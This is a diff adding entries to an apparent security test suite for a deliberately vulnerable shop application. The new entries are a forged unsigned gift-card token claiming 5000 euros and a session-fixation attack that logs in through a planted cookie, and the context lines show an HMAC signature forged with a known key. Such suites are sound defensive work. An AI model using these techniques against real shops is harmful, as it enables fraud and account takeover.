@@ -384,4 +384,23 @@ export const attacks: readonly Attack[] = [
     repair: 'suggestion',
     succeeds: async (shop) => shows(await shop.get('/partners/orders/1/signature'), createHmac('sha256', 'teapot-4711').update('1').digest('hex')),
   },
+  {
+    title: 'a gift card is worth what its owner writes',
+    repair: 'by hand',
+    succeeds: async (shop) => {
+      const claims = Buffer.from(JSON.stringify({ euros: 5000 })).toString('base64url');
+      return shows(await shop.send('POST', '/gifts/redeem', { token: `x.${claims}.x` }), '5000');
+    },
+  },
+  {
+    title: 'a planted session is logged in with its victim',
+    repair: 'by hand',
+    succeeds: async (shop) => {
+      const [planted = ''] = (await shop.fetch('/members/me')).headers.getSetCookie();
+      const cookie = planted.split(';')[0] ?? '';
+      const body = JSON.stringify({ email: 'ada@shop.example', password: 'assam' });
+      await shop.fetch('/members/login', { method: 'POST', headers: { 'content-type': 'application/json', cookie }, body });
+      return (await (await shop.fetch('/members/me', { headers: { cookie } })).text()).includes('ada@shop.example');
+    },
+  },
 ];
